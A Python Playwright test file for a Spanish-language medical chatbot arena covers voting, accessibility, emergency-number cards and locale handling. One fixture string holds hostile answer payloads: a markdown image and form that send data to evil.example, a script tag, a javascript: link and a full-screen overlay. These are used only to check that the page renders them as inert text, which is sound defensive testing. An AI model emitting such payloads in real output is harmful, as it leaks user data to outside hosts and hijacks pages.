import contextlib
import re
import time
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Literal

import pytest

from space import texts_en, texts_es
from tests.chromium import CHROMIUM, NO_BROWSER, SIZES
from tests.conftest import ROOT
from tests.space_fixtures import (
    CONTROLLER,
    SLOW_WORDS,
    Served,
    build_bank_of,
    label,
    served,
    write_built,
    write_config,
)

if TYPE_CHECKING:
    from types import ModuleType

    from playwright.sync_api import Browser, Page

SCREENSHOTS = ROOT / "build" / "screenshots"
NAMES = ("ficha-oculta-1", "curada-oculta-2")
CONTESTANTS = [{"name": NAMES[0], "kind": "ficha"}, {"name": NAMES[1], "kind": "curada"}]
DOSE = "Tome 3,25 mg los martes. No exceda 6,5 mg por semana, salvo por indicación de un médico."
HOSTILE = (
    "![x](http://evil.example/?q=secreto) <img src='http://evil.example/a.png'> "
    "<form action='http://evil.example'><input></form> <div style='position:fixed;inset:0'>tapa</div> "
    "[pulse](javascript:alert(1)) http://evil.example/auto www.evil.example <script>alert(1)</script>"
)

pytestmark = pytest.mark.skipif(not CHROMIUM.exists(), reason=NO_BROWSER)


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    dose = {"dosage_and_administration": DOSE}
    rows = [
        *label("ZORBAXILIN", dose, flags=["sample"]),
        *label("HOSTILIN", {"dosage_and_administration": HOSTILE}),
    ]
    qa = [{"question": "¿Qué es el asma?", "answer": "Una enfermedad de los bronquios.", "licence": "mit"}]
    return write_built(tmp_path_factory.mktemp("built"), {"openfda": rows, "qa": qa})


@pytest.fixture(scope="module")
def space(tmp_path_factory: pytest.TempPathFactory, built: Path) -> Iterator[Served]:
    with served(write_config(tmp_path_factory.mktemp("space"), CONTESTANTS, built)) as running:
        yield running


@pytest.fixture(scope="module")
def banked(tmp_path_factory: pytest.TempPathFactory, built: Path) -> Iterator[Served]:
    """A page with a bank, on which no model answers."""
    folder = tmp_path_factory.mktemp("banked")
    config = write_config(folder, CONTESTANTS, built, bank=str(folder / "bank"))
    build_bank_of(config, folder / "bank")
    with served(config, environment={**CONTROLLER, "ARENA_MODE": "bank"}) as running:
        yield running


@dataclass(frozen=True)
class Voice:
    """A page with a contestant that speaks in some way, and what the page logs."""

    url: str
    log: Path


@pytest.fixture(scope="module")
def voices(tmp_path_factory: pytest.TempPathFactory, built: Path) -> Iterator[dict[str, Voice]]:
    """Pages on which one contestant always says `Sí.` and the other speaks as the key says."""
    sampling = {"max_new_tokens": 12, "temperature": 0.7}
    with contextlib.ExitStack() as stack:
        pages = {}
        for voice in ("larga", "lenta", "rota", "azar"):
            folder = tmp_path_factory.mktemp(voice)
            entries = [{"name": each, "kind": "voz", "base": each} for each in (voice, "breve")]
            log = stack.enter_context((folder / "log").open("w"))
            config = write_config(folder, entries, built, sampling=sampling)
            pages[voice] = Voice(stack.enter_context(served(config, log=log)).url, folder / "log")
        yield pages


@pytest.fixture
def requests() -> list[str]:
    return []


@pytest.fixture(params=SIZES)
def page(
    request: pytest.FixtureRequest, browser: "Browser", space: Served, requests: list[str]
) -> Iterator["Page"]:
    width, height = SIZES[request.param]
    context = browser.new_context(viewport={"width": width, "height": height}, locale="es-ES")
    opened = context.new_page()
    opened.on("request", lambda each: requests.append(each.url))
    opened.goto(space.url)
    opened.wait_for_selector("#ask")
    yield opened
    context.close()


def _ask(page: "Page", question: str) -> None:
    page.check("#adult input")
    page.check("#consent-store input")
    page.fill("#question textarea", question)
    page.click("#ask")
    page.wait_for_selector("#vote-left:enabled")


def _open_tab(page: "Page", number: int) -> None:
    page.locator("button[role=tab]").nth(number).click()


@pytest.fixture
def shoot(page: "Page", request: pytest.FixtureRequest) -> Callable[[str], None]:
    """Save a picture for a person to look at, and say where it is, captured output or not."""

    def shoot(name: str) -> None:
        path = _picture(page, name)
        request.config.get_terminal_writer().line(f" screenshot: {path.relative_to(ROOT)}")

    return shoot


def _picture(page: "Page", name: str) -> Path:
    width = page.viewport_size["width"] if page.viewport_size else 0
    SCREENSHOTS.mkdir(parents=True, exist_ok=True)
    path = SCREENSHOTS / f"arena-{width}-{name}.png"
    page.screenshot(path=path)
    return path


def _in_view(page: "Page", selector: str) -> bool:
    box = page.locator(selector).bounding_box()
    size = page.viewport_size
    assert size is not None
    return box is not None and box["y"] >= 0 and box["y"] + box["height"] <= size["height"]


def _is_on_top(page: "Page", selector: str) -> bool:
    return page.evaluate(
        "selector => { const element = document.querySelector(selector);"
        "  const box = element.getBoundingClientRect();"
        "  const top = document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2);"
        "  return element.contains(top) }",
        selector,
    )


def test_a_visitor_asks_sees_both_answers_votes_and_sees_who_wrote_them(
    page: "Page", space: Served, requests: list[str], shoot: Callable[[str], None]
) -> None:
    shoot("1-start")
    assert page.locator("#vote-left").is_disabled()
    assert page.locator("#ask").is_enabled()
    _ask(page, "¿Cuál es la dosis de zorbaxilina?")
    shoot("2-answers")
    answers = [page.inner_text("#answer-left"), page.inner_text("#answer-right")]
    assert any(f"«{DOSE}» [1]" in answer for answer in answers)
    assert texts_es.CURATED_NONE in [answer.strip() for answer in answers]
    assert not any(name in page.content() for name in NAMES), "the models are hidden before the vote"
    assert _in_view(page, "#vote-left"), "the vote can be reached without scrolling"
    votes = len(space.votes())
    page.click("#vote-right")
    page.wait_for_selector("#reveal h3")
    page.wait_for_timeout(400)  # the page scrolls to what is revealed; only the picture waits for it
    shoot("3-reveal")
    assert page.inner_text("#status").strip() == texts_es.STATUS_SAVED.format(choice="B mejor")
    assert all(name in page.inner_text("#reveal") for name in NAMES)
    assert len(space.votes()) == votes + 1
    page.click("#vote-left")  # and changes their mind
    changed = texts_es.STATUS_CHANGED.format(choice="A mejor")
    page.wait_for_function(f"document.getElementById('status').innerText.trim() === {changed!r}")
    assert len(space.votes()) == votes + 1
    assert [url for url in requests if not url.startswith((space.url, "data:", "blob:"))] == []
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth"), (
        "nothing is wider than the page"
    )
    assert page.evaluate("document.documentElement.lang") == "es"


def test_a_new_question_starts_from_an_empty_page(page: "Page") -> None:
    _ask(page, "¿Qué es el asma?")
    page.click("#vote-tie")
    page.wait_for_selector("#reveal h3")
    page.click("#again")
    page.wait_for_selector("#reveal", state="hidden")
    assert page.input_value("#question textarea") == ""
    assert page.inner_text("#answer-left").strip() == texts_es.ANSWER_EMPTY.strip("*")
    assert page.locator("#vote-left").is_disabled()
    page.wait_for_function("document.activeElement === document.querySelector('#question textarea')")


def test_enter_asks(page: "Page") -> None:
    page.check("#adult input")
    page.check("#consent-store input")
    page.fill("#question textarea", "¿Qué es el asma?")
    page.press("#question textarea", "Enter")
    page.wait_for_selector("#vote-left:enabled")


def test_nothing_in_a_hostile_answer_fires(page: "Page", space: Served, requests: list[str]) -> None:
    _ask(page, "dosis de hostilina")
    answers = page.inner_text("#answer-left") + page.inner_text("#answer-right")
    assert "![x](http://evil.example/?q=secreto)" in answers, "it is shown as text"
    for side in ("left", "right"):
        assert (
            page.locator(f"#answer-{side}").locator("img, form, a, script, iframe, [style*=fixed]").count()
            == 0
        )
    assert [url for url in requests if "evil" in url] == []
    page.locator("#vote-left").scroll_into_view_if_needed()  # a page that still grows may push it out
    assert _is_on_top(page, "#vote-left"), "nothing lies over the vote buttons"


def test_a_long_answer_stays_inside_its_box_and_the_vote_within_reach(
    page: "Page", voices: dict[str, Voice], shoot: Callable[[str], None]
) -> None:
    page.goto(voices["larga"].url)
    _ask(page, "¿Y la dosis?")
    shoot("4-long")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    width = page.viewport_size["width"] if page.viewport_size else 0
    if width < 640:
        assert _in_view(page, "#vote-left"), "on a phone the buttons stay in sight"
    page.locator("#vote-both_bad").scroll_into_view_if_needed()
    page.click("#vote-both_bad")
    page.wait_for_selector("#reveal h3")
    assert page.inner_text("#status").strip() == texts_es.STATUS_SAVED.format(choice="Ambas malas")


@pytest.mark.parametrize(("locale", "texts"), [("es-ES", texts_es), ("en-GB", texts_en)])
def test_a_vote_says_at_once_that_it_is_sent_and_without_a_connection_that_nobody_confirmed_it(
    browser: "Browser", space: Served, locale: str, texts: "ModuleType"
) -> None:
    page = browser.new_context(locale=locale).new_page()
    page.goto(space.url)
    _ask(page, "¿Qué es el asma?")
    page.evaluate(
        "() => { window.said = []; new MutationObserver(() => said.push(document.querySelector("
        "'#status .md').innerText.trim())).observe(document.body, {subtree: true, childList: true}) }"
    )
    page.click("#vote-left")
    page.wait_for_selector("#reveal h3")
    saved = texts.STATUS_SAVED.format(choice=texts.VOTE_LEFT)
    page.wait_for_function("saved => said.includes(saved)", arg=saved)
    assert [each for each in dict.fromkeys(page.evaluate("said")) if each] == [texts.STATUS_SENDING, saved]
    page.context.set_offline(True)
    page.click("#vote-tie")
    page.wait_for_function(
        "text => document.getElementById('status').innerText.trim() === text", arg=texts.STATUS_DISCONNECTED
    )
    assert page.inner_text("[data-testid=toast-text]") == texts.STATUS_DISCONNECTED
    page.context.close()


def test_a_tab_shows_what_happened_since_the_page_was_loaded(browser: "Browser", space: Served) -> None:
    """The first vote after the page was loaded, without «Actualizar»."""
    page = browser.new_context(locale="es-ES").new_page()
    page.goto(space.url)
    row = "[...document.querySelectorAll('#health tr')].find(each => each.innerText.startsWith(%r)).innerText"
    last_vote = row % texts_es.HEALTH_LAST_VOTE
    _open_tab(page, 2)
    page.wait_for_function("document.querySelector('#health td')")
    before = page.evaluate(last_vote)
    _open_tab(page, 0)
    page.wait_for_timeout(1000)  # the time of a vote is told by the second
    _ask(page, "¿Qué es el asma?")
    page.click("#vote-left")
    page.wait_for_selector("#reveal h3")
    _open_tab(page, 2)
    page.wait_for_function(f"before => {last_vote} !== before", arg=before, timeout=5000)
    page.context.close()


COVERED = """() => [...document.querySelectorAll('#vote-buttons button')].filter(button => {
  const box = button.getBoundingClientRect()
  return !button.contains(document.elementFromPoint(box.x + box.width / 2, box.y + box.height / 2))
}).map(button => button.innerText)"""


def test_on_a_phone_a_tap_on_a_vote_button_votes_wherever_the_page_is_scrolled(
    browser: "Browser", space: Served
) -> None:
    """With the reasons unfolded, so that their labels pass under the bar."""
    context = browser.new_context(viewport={"width": 390, "height": 844}, locale="es-ES")
    page = context.new_page()
    page.goto(space.url)
    _ask(page, "¿Qué es el asma?")
    page.click("#reasons button")
    page.locator("#comment").wait_for()
    covered = {}
    for y in range(0, page.evaluate("document.documentElement.scrollHeight"), 10):
        page.evaluate(f"window.scrollTo(0, {y})")
        if names := page.evaluate(COVERED):
            covered[y] = names
    assert covered == {}
    label = "[...document.querySelectorAll('#reasons [data-testid=block-info]')].pop()"
    middle = "document.getElementById('vote-left').getBoundingClientRect()"
    page.evaluate(f"scrollBy(0, {label}.getBoundingClientRect().top - {middle}.top - 10)")
    box = page.locator("#vote-left").bounding_box()
    assert box is not None
    page.mouse.click(box["x"] + box["width"] / 2, box["y"] + box["height"] / 2)
    page.wait_for_selector("#reveal h3")
    context.close()


def test_a_question_can_be_given_up_while_it_is_answered(page: "Page", voices: dict[str, Voice]) -> None:
    page.goto(voices["lenta"].url)
    page.check("#adult input")
    page.fill("#question textarea", "¿Sí?")
    page.click("#ask")
    page.wait_for_function(
        "document.getElementById('answer-left').innerText.includes('palabra') ||"
        " document.getElementById('answer-right').innerText.includes('palabra')"
    )
    assert page.locator("#vote-left").is_disabled(), "nobody votes on half an answer"
    page.click("#again")
    page.wait_for_function(
        f"document.getElementById('status').innerText.trim() === {texts_es.STATUS_START!r}"
    )
    page.wait_for_timeout(700)  # what still came of the old answers would show by now
    assert page.inner_text("#answer-left").strip() == texts_es.ANSWER_EMPTY.strip("*")
    assert page.locator("#ask").is_enabled()
    assert page.locator("#vote-left").is_disabled()


def test_after_stop_the_question_stays_and_can_be_edited(page: "Page", voices: dict[str, Voice]) -> None:
    page.goto(voices["lenta"].url)
    page.check("#adult input")
    page.fill("#question textarea", "¿Sí?")
    page.click("#ask")
    page.wait_for_function("document.body.innerText.includes('palabra')")
    page.click("#stop")
    page.wait_for_function(
        f"document.getElementById('status').innerText.trim() === {texts_es.STATUS_STOPPED!r}"
    )
    assert page.inner_text("#asked .prose").strip() == f"{texts_es.ASKED}: ¿Sí?"
    page.fill("#question textarea", "")
    page.click("#edit")
    page.wait_for_function("document.querySelector('#question textarea').value === '¿Sí?'")
    assert page.locator("#vote-left").is_disabled()


def test_the_card_takes_the_numbers_of_the_country_that_is_typed(page: "Page") -> None:
    """Also where the question was refused, and never once the card is gone."""
    page.fill("#question textarea", "me duele mucho el pecho y no puedo respirar")
    page.click("#ask")  # without the box of the adult
    page.wait_for_selector(".emergency-card")
    assert page.inner_text("#status").strip() == texts_es.STATUS_NO_ADULT
    page.click("#country input")
    page.wait_for_timeout(200)  # what stands there is selected
    page.keyboard.type("Arg")
    page.keyboard.press("Enter")
    page.wait_for_selector('.emergency-card a[href="tel:107"]')
    page.check("#adult input")
    page.fill("#question textarea", "¿Qué es el asma?")
    page.click("#ask")
    page.wait_for_selector("#reveal h3")
    page.click("#country input")
    page.wait_for_timeout(200)
    page.keyboard.type("Méx")  # the open list may move for long where the page does
    page.keyboard.press("Enter")
    page.wait_for_timeout(300)
    assert page.locator(".emergency-card").count() == 0, "a card that is gone stays gone"


def test_tab_leaves_the_list_of_countries_and_closes_it(page: "Page") -> None:
    """Where it stayed open it lay over the buttons that the focus goes to."""
    page.wait_for_selector("#country input")  # Gradio fetches its code after that of the buttons
    page.focus("#consent-publish input")
    for key, left_for in (("Tab", "ask"), ("Shift+Tab", "consent-publish")):
        page.keyboard.press(key)
        page.wait_for_selector("[role=option]")
        page.keyboard.press(key)
        page.wait_for_function(f"document.activeElement.closest('[id]')?.id === '{left_for}'")
        page.wait_for_selector("[role=option]", state="detached")
        assert page.get_attribute("#country input", "aria-expanded") == "false"
    assert _is_on_top(page, "#ask")


def test_who_leaves_the_country_at_once_is_not_called_back(page: "Page") -> None:
    """Gradio tells of the focus after it has moved on, and to select what stands there fetches it again."""
    page.wait_for_selector("#country input")
    page.evaluate("for (const to of ['#country input', '#ask']) document.querySelector(to).focus()")
    page.wait_for_timeout(500)
    assert page.evaluate("document.activeElement.id") == "ask"


def test_the_country_typed_while_models_write_keeps_its_numbers(
    browser: "Browser", voices: dict[str, Voice]
) -> None:
    tab = _being_answered(browser, voices, "me duele mucho el pecho y no puedo respirar")
    tab.click("#country input")
    tab.get_by_role("option", name="Argentina").click()
    tab.wait_for_selector('.emergency-card a[href="tel:107"]')
    written = "document.body.innerText.split('palabra').length"
    before = tab.evaluate(written)
    tab.wait_for_function(f"{written} > {before} + 3")
    tab.click("#stop")
    tab.wait_for_selector("#stop", state="hidden")
    assert tab.locator('.emergency-card a[href="tel:107"]').count() == 1
    tab.context.close()


def test_a_closed_tab_stops_the_model_that_was_writing(browser: "Browser", voices: dict[str, Voice]) -> None:
    """The model says in the log how many words it wrote when it ended; left alone it writes all of them."""
    log = voices["lenta"].log
    before = len(_words_written(log))
    tab = _being_answered(browser, voices, "¿Sí?")
    tab.close()
    while len(_words_written(log)) == before:
        time.sleep(0.1)
    tab.context.close()
    assert 0 < _words_written(log)[-1] < SLOW_WORDS


def _being_answered(browser: "Browser", voices: dict[str, Voice], question: str) -> "Page":
    """Ask the slow model, and return the page with its first words."""
    tab = browser.new_context(locale="es-ES").new_page()
    tab.goto(voices["lenta"].url)
    tab.check("#adult input")
    tab.fill("#question textarea", question)
    tab.click("#ask")
    tab.wait_for_function("document.body.innerText.includes('palabra')")
    return tab


def _words_written(log: Path) -> list[int]:
    return [int(words) for words in re.findall(r"lenta: (\d+) words", log.read_text(encoding="utf-8"))]


# The answers alone: while an event waits, Gradio has an invisible clock in their boxes. Beside each pair of
# answers that was on the page, ever so short, it is noted whether anything was ticked.
WATCH_BOXES = """() => {
  window.answersOnThePage = () => ['left', 'right'].map(
    side => document.querySelector(`#answer-${side} .prose`).innerText.trim()).join(' ')
  window.tickedBeside = []
  const note = () => {
    const answers = answersOnThePage()
    if (document.querySelector('#reasons :checked:not([type=radio])') && !tickedBeside.includes(answers))
      tickedBeside.push(answers)
  }
  new MutationObserver(note).observe(document.body, {subtree: true, childList: true, characterData: true})
  note()
  return answersOnThePage()
}"""


def test_other_answers_and_the_question_to_edit_are_a_key_away(
    page: "Page", voices: dict[str, Voice], shoot: Callable[[str], None]
) -> None:
    """«Otra respuesta» by keyboard, then on to the vote with Tab; «Editar la pregunta» lands in the box."""
    page.goto(voices["azar"].url)
    _ask(page, "¿Una?")
    page.fill("#question textarea", "otra cosa a medias")
    page.focus("#reasons button")
    assert _is_on_top(page, "#reasons button"), "what has the focus lies under no bar"
    page.keyboard.press("Enter")
    dangerous = page.locator("#reasons-left").get_by_label(texts_es.REASONS["dangerous"])
    dangerous.wait_for()  # the reasons unfold
    dangerous.focus()
    page.keyboard.press("Space")
    page.wait_for_selector("#reasons-left input:checked")
    assert dangerous.is_checked()
    old = page.evaluate(WATCH_BOXES)
    page.focus("#retry")
    page.keyboard.press("Enter")
    page.wait_for_function(
        "old => { const both = answersOnThePage();"
        " return both !== old && both.includes('Respuesta ') && both.includes('Sí.') }",
        arg=old,
    )
    page.wait_for_selector("#vote-left:enabled")
    assert page.inner_text("#asked .prose").strip() == f"{texts_es.ASKED}: ¿Una?"
    assert page.evaluate("tickedBeside") == [old], "it was about the old answers, and is gone with them"
    assert not dangerous.is_checked()
    page.wait_for_function("document.activeElement.id === 'asked'")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.id") == "vote-left"
    shoot("10-retry")
    assert page.evaluate("document.documentElement.scrollWidth <= innerWidth")
    page.focus("#edit")
    page.keyboard.press("Enter")
    page.wait_for_function("document.activeElement === document.querySelector('#question textarea')")
    assert page.input_value("#question textarea") == "¿Una?"
    page.keyboard.type(" ¿Y dos?")
    page.keyboard.press("Enter")
    page.wait_for_function("document.getElementById('asked')?.innerText.includes('¿Una? ¿Y dos?')")
    page.wait_for_selector("#vote-left:enabled")
    page.click("#vote-tie")
    page.wait_for_selector("#reveal h3")
    page.wait_for_selector("#retry", state="detached")  # who they are is told by now
    page.wait_for_selector("#follow", state="detached")
    assert page.locator("#edit").is_visible()
    shoot("11-edit")


def test_after_a_failure_that_nobody_foresaw_the_page_says_so_and_goes_on(
    page: "Page", voices: dict[str, Voice], shoot: Callable[[str], None]
) -> None:
    page.goto(voices["rota"].url)
    page.check("#adult input")
    page.fill("#question textarea", "¿Sí?")
    page.click("#ask")
    page.wait_for_function("document.getElementById('status').innerText.startsWith('Un modelo no ha podido')")
    page.wait_for_selector("#ask:enabled")
    assert page.locator("#vote-left").is_disabled()
    shoot("5-failure")


# Contrast of WCAG 2: (lighter + 0.05) / (darker + 0.05) of relative luminances; 4.5 is asked of small text.
CONTRAST = """selector => {
  const luminance = color => {
    const [r, g, b] = color.match(/[\\d.]+/g).slice(0, 3).map(Number).map(
      v => (v /= 255) <= 0.03928 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    return 0.2126 * r + 0.7152 * g + 0.0722 * b
  }
  const opaque = color => !/^rgba\\(.*, 0\\)$/.test(color) && color !== 'transparent'
  const element = document.querySelector(selector)
  let behind = element
  while (behind && !opaque(getComputedStyle(behind).backgroundColor)) behind = behind.parentElement
  const fore = luminance(getComputedStyle(element).color)
  const back = behind ? luminance(getComputedStyle(behind).backgroundColor) : 1
  return (Math.max(fore, back) + 0.05) / (Math.min(fore, back) + 0.05)
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_what_is_to_be_read_can_be_read_by_day_and_by_night(
    page: "Page", space: Served, shoot: Callable[[str], None], scheme: Literal["light", "dark"]
) -> None:
    page.emulate_media(color_scheme=scheme)
    page.goto(space.url)
    page.wait_for_selector("#ask")
    assert ("dark" in (page.get_attribute("body", "class") or "")) == (scheme == "dark")
    _ask(page, "¿Cuál es la dosis de zorbaxilina?")
    page.mouse.move(5, 5)  # no button is hovered
    page.wait_for_timeout(400)
    shoot(f"6-{scheme}")
    texts = ["#ask", "#again", "#vote-left", "#vote-both_bad", "#status p", "#notices p", "#answer-left p"]
    contrasts = {selector: page.evaluate(CONTRAST, selector) for selector in texts}
    assert {selector: round(each, 1) for selector, each in contrasts.items() if each < 4.5} == {}
    page.click("#vote-tie")
    page.wait_for_selector("#reveal h3")
    assert page.evaluate(CONTRAST, "#reveal p") >= 4.5
    shoot(f"7-{scheme}-reveal")


def test_the_page_can_be_used_by_keyboard_and_screen_reader(
    page: "Page", shoot: Callable[[str], None]
) -> None:
    """Rules of WCAG 2.1 A and AA, by axe-core, before and after the answers and on every tab."""
    found = _violations(page)
    _ask(page, "me duele mucho el pecho y no puedo respirar. ¿Cuál es la dosis de zorbaxilina?")
    page.wait_for_selector(".emergency-card")
    shoot("8-emergency")
    found += _violations(page)
    for tab in page.query_selector_all("button[role=tab]"):
        tab.click()
        page.wait_for_timeout(300)
        found += _violations(page)
    assert not found, "\n".join(found)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("locale", ["es-ES", "en-GB"])
def test_the_emergency_card_can_be_read_with_the_numbers_of_a_country_and_of_all(
    browser: "Browser", space: Served, locale: str, scheme: Literal["light", "dark"]
) -> None:
    """Who answers stands in the links of a country, and in those of all countries once they unfold."""
    context = browser.new_context(
        viewport={"width": 390, "height": 844}, locale=locale, color_scheme=scheme, reduced_motion="reduce"
    )
    page = context.new_page()
    page.goto(space.url)
    page.wait_for_selector("#ask")
    page.fill("#question textarea", "me quiero morir")
    page.click("#ask")
    page.click(".emergency-card summary")
    page.wait_for_selector(".emergency-card details a span")
    found = _violations(page, ["color-contrast"])
    page.click("#country input")
    page.get_by_role("option", name="España", exact=True).click()
    page.wait_for_selector('.emergency-card a[href="tel:024"] span')
    found += _violations(page, ["color-contrast"])
    assert not found, "\n".join(found)
    context.close()


def _violations(
    page: "Page", rules: Sequence[str] = ("wcag2a", "wcag2aa", "wcag21a", "wcag21aa")
) -> list[str]:
    """Return what breaks rules of axe, or those with its tags."""
    from axe_playwright_python.sync_playwright import Axe

    options = {"runOnly": list(rules)}
    results = Axe().run(page, options=options).response
    return [f"{each['id']}: {node['html'][:120]}" for each in results["violations"] for node in each["nodes"]]


def test_the_answers_and_the_status_are_spoken_as_they_come(page: "Page") -> None:
    assert page.get_attribute("#status [role=status]", "aria-live") == "polite"
    for side in ("left", "right"):
        assert page.get_attribute(f"#answer-{side} [data-testid=markdown]", "role") == "log"


def test_a_visitor_votes_on_a_stored_battle_within_three_taps(
    page: "Page", banked: Served, shoot: Callable[[str], None]
) -> None:
    """Box, question of the bank, vote; with generation switched off."""
    page.goto(banked.url)
    page.wait_for_function(
        f"document.getElementById('status')?.innerText.trim() === {texts_es.STATUS_MODE_BANK!r}"
    )
    assert page.locator("#ask").is_disabled(), "it says so before anything is written"
    page.check("#consent-store input")
    page.click("#bank")
    page.wait_for_selector("#vote-left:enabled")
    shoot("9-bank")
    page.click("#vote-left")
    page.wait_for_selector("#reveal h3")
    assert page.inner_text("#status").strip() == texts_es.STATUS_SAVED.format(choice="A mejor")
    (vote,) = banked.votes()[-1:]
    with banked.store() as store:
        battle = store.battle(vote.battle_id)
    assert battle is not None
    assert battle.kind == "bank"
    page.check("#adult input")
    page.fill("#question textarea", "¿Qué es el asma?")
    page.click("#ask")
    page.wait_for_function(
        f"document.getElementById('status').innerText.trim() === {texts_es.STATUS_MODE_BANK!r}"
    )


LANGUAGES = """() => Object.fromEntries(
  ['#question textarea', '#example-0', '#asked', '#asked span[lang]', '#answer-left', '#answer-right',
    '#status'].map(each => [each, document.querySelector(each)?.closest('[lang]').lang]))"""


def test_a_browser_set_to_english_reads_english(browser: "Browser", space: Served) -> None:
    context = browser.new_context(locale="en-GB")
    opened = context.new_page()
    opened.goto(space.url)
    opened.wait_for_function(f"document.getElementById('ask')?.innerText.trim() === {texts_en.ASK!r}")
    assert opened.evaluate("document.documentElement.lang") == "en"
    assert texts_en.CONSENT_ADULT in opened.inner_text("#consent")
    _ask(opened, "¿Qué es el asma?")
    assert opened.evaluate(LANGUAGES) == {
        "#question textarea": "es",
        "#example-0": "es",
        "#asked": "es",
        "#asked span[lang]": "en",
        "#answer-left": "es",
        "#answer-right": "es",
        "#status": "en",
    }
    opened.click("#again")
    opened.wait_for_selector("#answer-left span[lang=en] em")
    assert opened.inner_text("#answer-left").strip() == "The answer will appear here."
    context.close()
